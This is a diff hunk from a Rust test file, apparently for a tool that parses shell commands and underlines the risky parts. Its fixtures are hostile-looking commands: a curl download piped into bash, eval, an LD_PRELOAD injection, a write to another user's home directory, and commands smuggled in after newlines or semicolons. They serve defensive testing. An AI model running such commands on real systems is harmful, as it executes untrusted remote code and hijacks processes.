@@ -43,7 +43,7 @@ fn of_what_is_nested_the_outer_words_are_underlined() {
         ("git log; sh -c 'npm test'", "         ^^^^^^^^^^^^^^^^"),
         ("git log $(npm bin)", "^^^^^^^^^^^^^^^^^^"),
         ("git log | xargs -n1 npm test", "          ^^^^^^^^^^^^^^^^^^"),
-        ("curl https://x.test/i | bash", "^^^^^^^^^^^^^^^^^^^^^^^^^^^^"),
+        ("git log\ncurl https://x.test/i | bash", "^^^^^^^^^^^^^^^^^^^^^"),
         ("git log; eval \"$x\"", "         ^^^^^^^^^"),
         ("git log > /home/other/x", "^^^^^^^^^^^^^^^^^^^^^^^"),
         ("A=1\nLD_PRELOAD=./x git log", "^^^^^^^^^^^^^^^^^^^^^^"),
